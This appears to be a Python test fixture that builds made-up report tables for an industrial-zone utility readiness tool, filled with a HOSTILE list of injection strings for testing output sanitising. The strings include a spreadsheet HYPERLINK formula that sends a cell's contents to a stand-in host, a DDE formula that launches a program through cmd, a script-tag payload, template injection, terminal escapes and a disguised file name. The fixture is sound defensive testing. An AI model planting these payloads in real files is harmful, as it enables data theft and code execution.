"""A zone on paper: the tables that a report would hand over, with texts that mean harm. No engine is needed."""

from __future__ import annotations

from typing import Any

import geopandas as gpd
import numpy as np
import pandas as pd
from shapely.geometry import LineString, Point, box

from gisplan.faults.fault import COLUMNS
from gisplan.outputs.tables import Tables

CRS = "EPSG:4546"
X0, Y0 = 525_000.0, 3_995_000.0
HOSTILE = (
    '=HYPERLINK("http://x.invalid/?"&A1,"ok")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "[red]mark[/red] [link=file:///x]up[/link]",
    "\x1b[31mred\x1b[0m",
    "\x0b\x00\x1f",
    "{{ 7*7 }}",
    "<script>alert(1)</script>",
    "\u202egnp.exe",
    "\ud800",
    "x" * 40_000,
    "𠮷" * 20_000,
)
PARCELS = ("0012", "1234567890123456789", "=1+1", "P-07")
SERVICES = {"water": ("给水", "Water supply", "JS", "给"), "sewage": ("污水", "Sewerage", "WS", "污")}


def texts(values: Any) -> pd.Series:
    """A column that takes any text: pandas' own text type refuses lone surrogates where pyarrow is installed."""
    return pd.Series(list(values), dtype=object)


def services() -> pd.DataFrame:
    rows = {key: (*names, "#00a0e9", "lines", "required") for key, names in SERVICES.items()}
    rows["leveling"] = ("场地平整", "Levelling", "PZ", "平", "#8d6e63", "surface", "required")
    columns = ["zh", "en", "letter", "short", "colour", "shape", "need"]
    return pd.DataFrame.from_dict(rows, orient="index", columns=columns).rename_axis("service")


def parcels() -> gpd.GeoDataFrame:
    count = len(PARCELS)
    return gpd.GeoDataFrame(
        {
            "name": texts(["一号地", HOSTILE[0], None, HOSTILE[7]]).to_numpy(),
            "use": ["industrial", "logistics", None, "industrial"],
            "sub_park": ["甘亭", "甘亭", HOSTILE[1], None],
            "supply_status": ["offered", "reserved", None, "granted"],
            "delivery_on": pd.to_datetime(["2027-06-30", None, "2026-12-31", None]),
            "promised": [None, "七通一平", None, HOSTILE[3]],
            "area_mu": [50.125, 15.0, 1 / 3, 120.0],
        },
        index=pd.Index(PARCELS, name="parcel"),
        geometry=[box(X0 + 100 * i, Y0, X0 + 100 * i + 90, Y0 + 90) for i in range(count)],
        crs=CRS,
    )


def readiness() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "area_mu": [50.125, 15.0, 1 / 3, 120.0],
            "supply_status": ["offered", "reserved", None, "granted"],
            "ready": ["yes", "no", "unknown", "no"],
            "ready_by_delivery": ["yes", "unknown", "no", "unknown"],
            "ready_on": pd.to_datetime([None, "2027-01-31", None, None]),
            "connected_count": [3, 2, 1, 1],
            "required_count": [3, 3, 3, 2],
            "water": list("AABN"),
            "sewage": list("ABUD"),
            "leveling": list("AAUA"),
        },
        index=pd.Index(PARCELS, name="parcel"),
    )


def cells() -> pd.DataFrame:
    letters = readiness()[list(services().index)]
    long = letters.stack().rename("grade").rename_axis(["parcel", "service"]).reset_index()
    verdict = {"A": "ready", "U": "unknown", "N": "not_applicable"}
    return long.assign(
        verdict=[verdict.get(g, "gap") for g in long["grade"]],
        need="required",
        code="connected",
        feature=HOSTILE[2],
        distance_m=np.where(long["grade"] == "A", 12.5, np.inf),
        path_m=np.where(long["grade"] == "A", 512.25, np.nan),
        source="S1",
        works=None,
        ready_on=pd.NaT,
        reason_zh="通到在用的源",
        reason_en="connected to a working source",
    )


def findings() -> pd.DataFrame:
    count = len(HOSTILE)
    return pd.DataFrame(
        {
            "parcel": [PARCELS[i % 4] for i in range(count)],
            "service": "water",
            "condition": "water.reach",
            "value": pd.Series(
                [-0.5, np.inf, np.nan, "-0.3", "medium_a", *[float(i) for i in range(count - 5)]], dtype=object
            ),
            "unit": "m",
            "limit": "≤ 50 m",
            "verdict": "gap",
            "grade": "D",
            "feature": texts(HOSTILE),
            "works": None,
            "ready_on": pd.to_datetime(["2027-01-31", *[None] * (count - 1)]),
            "basis": "assumed",
            "clause": "?",
            "reason_zh": texts(HOSTILE),
            "reason_en": texts(HOSTILE),
        }
    )


def gaps() -> gpd.GeoDataFrame:
    line = LineString([(X0, Y0), (X0 + 80, Y0)])
    return gpd.GeoDataFrame(
        {
            "parcel": [PARCELS[1], PARCELS[3]],
            "service": ["sewage", "sewage"],
            "grade": ["B", "D"],
            "length_m": [80.0, np.inf],
            "from_feature": [HOSTILE[6], None],
            "responsible_zh": ["排水单位", "排水单位"],
            "responsible_en": ["drainage utility", "drainage utility"],
            "unit_price_cny": [2000.0, 2000.0],
            "estimate_cny": [160_000.0, np.nan],
            "basis": ["assumed", "assumed"],
            "reason_zh": [HOSTILE[11], "未通"],
            "reason_en": [HOSTILE[8], "not connected"],
        },
        geometry=[line, None],
        crs=CRS,
    )


def issues() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "code": "status_unknown",
            "severity": ["error", "warning", *["info"] * (len(HOSTILE) - 2)],
            "file": "water.gpkg",
            "layer": "water",
            "feature": texts(HOSTILE),
            "message": texts(HOSTILE),
            "hint": texts(HOSTILE),
            "action": "noted",
        }
    )


def features() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {
            "service": ["water", "water", "sewage"],
            "feature": ["L1", HOSTILE[2], "A1"],
            "role": ["line", "source", "line"],
            "kind": [None, "water_plant", None],
            "state": ["operating", "planned", "built"],
            "label": ["DN300", "", HOSTILE[4]],
            "works": None,
            "name": [HOSTILE[12], None, "x"],
        },
        geometry=[LineString([(X0, Y0), (X0 + 100, Y0)]), Point(X0, Y0), box(X0, Y0, X0 + 5, Y0 + 5)],
        crs=CRS,
    )


def joins() -> gpd.GeoDataFrame:
    row = {
        "id": ["J-0000000001"],
        "service": ["water"],
        "feature": ["L1"],
        "other": ["L2"],
        "kind": ["end_end"],
        "gap_m": [0.4],
        "doubt": [""],
        "undone": [False],
        "hanging_parcels": [1.0],
        "hanging_mu": [50.1],
    }
    return gpd.GeoDataFrame(row, geometry=[Point(X0, Y0)], crs=CRS)


def faults() -> gpd.GeoDataFrame:
    """One fault a shape: a near miss (line), two joins (points, one of them with every hostile text), an area, none."""
    count = 3 + len(HOSTILE)
    rows: dict[str, Any] = {name: [np.nan] * count for name in COLUMNS if name != "geometry"}
    rows |= {
        "id": [f"F-{i:010d}" for i in range(count)],
        "code": ["near_miss", "joined", "parcel_overlap", *["joined"] * len(HOSTILE)],
        "severity": ["error", "warning", "info", *["info"] * len(HOSTILE)],
        "layer": ["water", "sewage", "parcels", *["water"] * len(HOSTILE)],
        "feature": ["L1", "S1", "0012", *HOSTILE],
        "other": ["L2", "S2", "P-07", *HOSTILE],
        "cause": ["drawing", "", "", *[""] * len(HOSTILE)],
        "gap_m": [1.25, 0.4, np.nan, *[0.3] * len(HOSTILE)],
        "repair_m": [1.25, *[np.nan] * (count - 1)],
        "build_m": [380.0, *[np.nan] * (count - 1)],
        "stranded_parcels": [2.0, *[np.nan] * (count - 1)],
        "stranded_mu": [135.0, *[np.nan] * (count - 1)],
        "alone_mu": [90.5, *[np.nan] * (count - 1)],
        "hanging_parcels": [np.nan, 1.0, *[np.nan] * (count - 2)],
        "hanging_mu": [np.nan, 50.1, *[np.nan] * (count - 2)],
    }
    for name in ("message_zh", "message_en", "hint_zh", "hint_en"):
        rows[name] = [f"{name} {i}" for i in range(3)] + list(HOSTILE)
    line = LineString([(X0, Y0), (X0 + 3, Y0 + 4)])
    shapes = [line, Point(X0 + 10, Y0), box(X0, Y0, X0 + 2, Y0 + 2), *[Point(X0, Y0)] * (len(HOSTILE) - 1), None]
    frame = pd.DataFrame({name: texts(rows[name]) if isinstance(rows[name][0], str) else rows[name] for name in rows})
    frame = frame[[name for name in COLUMNS if name != "geometry"]]
    return gpd.GeoDataFrame(frame, geometry=shapes, crs=CRS)


def limits() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "what": ["water.reach"],
            "kind": ["condition"],
            "service": ["water"],
            "label_zh": ["给水到达红线"],
            "label_en": ["Water supply reaches the parcel line"],
            "measure": ["distance"],
            "limit": ["≤ 50 m"],
            "unit": ["m"],
            "basis": ["assumed"],
            "code": [""],
            "clause": ["?"],
            "sure": ["assumed"],
            "weight": ["required"],
            "overridden": [False],
            "former": [None],
            "uses": [6],
        }
    )


def about(**changes: Any) -> dict[str, Any]:
    return {
        "title": {"zh": "甘亭", "en": "Ganting"},
        "invented": True,
        "disclaimer": {"zh": "能力和管底高程尚未核查。", "en": "Capacity and invert levels are not yet checked."},
        "profile": {"id": "jiutong_classic", "version": "2026.11", "zh": "九通一平", "en": "Nine connections"},
        "dates": {"data": "2026-10-01", "check": "2026-11-01"},
        "crs": {"code": CRS, "name": "CGCS2000"},
        "version": "0.1.0",
        "notes": [{"zh": "给水：状态按声明取现状", "en": "water: status declared as operating"}],
        **changes,
    }


def paper_tables(**changes: Any) -> Tables:
    parts: dict[str, Any] = {
        "about": about(),
        "services": services(),
        "parcels": parcels(),
        "readiness": readiness(),
        "cells": cells(),
        "findings": findings(),
        "gaps": gaps(),
        "issues": issues(),
        "features": features(),
        "joins": joins(),
        "faults": faults(),
        "works": pd.DataFrame({"name": []}, index=pd.Index([], name="works")),
        "evidence": pd.DataFrame({"parcel": []}),
        "limits": limits(),
    }
    return Tables(**{**parts, **changes})


def empty_tables() -> Tables:
    """Nothing to report: no parcels, no findings, no features."""
    full = paper_tables()
    names = ("parcels", "readiness", "cells", "findings", "gaps", "issues", "features", "joins", "faults", "limits")
    return paper_tables(**{name: getattr(full, name).iloc[:0] for name in names})
